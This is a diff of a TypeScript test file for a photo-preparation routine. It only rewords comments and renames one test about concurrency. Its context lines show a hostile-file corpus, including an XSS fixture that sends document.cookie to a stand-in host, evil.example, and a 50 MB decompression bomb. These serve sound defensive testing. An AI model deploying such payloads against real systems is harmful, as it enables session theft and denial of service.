@@ -23,7 +23,7 @@ const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
 const svg = (inside: string) =>
   Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">${inside}</svg>`)
 
-/** A PNG of a header and at most one extra chunk. */
+/** Returns a PNG with a header, picture data and at most one extra chunk. */
 function createPng(
   size: [number, number],
   options: { colour?: number; extra?: Buffer; rows?: Buffer },
@@ -63,7 +63,7 @@ function withSegment(marker: number, text: string): Buffer {
 
 /** Scan lines of a valid grey picture of the usual size. */
 const rows = Buffer.alloc((width + 1) * height, 0)
-/** 50 million zeros, compressed to 50 kB. */
+/** A decompression bomb: 50 million zeros, compressed to 50 kB. */
 const bomb = deflateSync(Buffer.alloc(50_000_000))
 
 const corpus: HostileFile[] = [
@@ -269,7 +269,7 @@ test('a photo is rotated by its EXIF orientation', async () => {
   assert.ok(upright.ratio[1] > upright.ratio[0])
 })
 
-test('many simultaneous photos are decoded in turn', async () => {
+test('photos beyond the concurrency limit wait and are all decoded', async () => {
   const result = await Promise.all(Array.from({ length: 6 }, () => preparePhoto(jpeg)))
   assert.ok(result.every(({ ok }) => ok))
 })
